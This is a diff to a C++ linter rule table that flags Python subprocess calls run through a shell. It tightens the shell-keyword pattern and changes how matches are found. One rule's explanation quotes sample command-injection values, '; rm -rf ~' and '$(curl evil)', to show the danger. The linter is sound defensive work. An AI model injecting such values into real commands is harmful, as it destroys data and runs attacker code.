@@ -24,7 +24,7 @@ using syntax::Call;
 using syntax::Kind;
 using syntax::Node;
 
-constexpr std::string_view kShellWord[] = {"shell"};
+constexpr std::string_view kShellWord[] = {"shell$"};
 constexpr std::string_view kSubprocessModule[] = {"subprocess"};
 // All of the above.
 constexpr auto kProcess = [] {
@@ -156,7 +156,7 @@ constexpr Rule kRules[] = {
             "Text from outside in the command, such as \"; rm -rf ~\" or \"$(curl evil)\", is run "
             "with the rights of this process.",
         .fix = "subprocess.run([\"ping\", \"-c1\", host], check=True)  # a list, and no shell=True",
-        .match = OnCall{.callees = kSubprocess, .words = kShellWord, .when = WhenShell},
+        .match = OnCall{.callees = kSubprocess, .near = kShellWord, .when = WhenShell},
         .quiet = IsCommandFixed,
     },
     {
@@ -191,7 +191,7 @@ constexpr Rule kRules[] = {
         .why = "If it passes that on to subprocess, text from outside in the command is run by a "
                "shell.",
         .fix = "run([\"ls\", folder])  # a list, and no shell=True",
-        .match = OnCall{.words = kShellWord, .when = WhenOtherShell},
+        .match = OnCall{.near = kShellWord, .when = WhenOtherShell},
     },
     {
         .name = "shell-command",
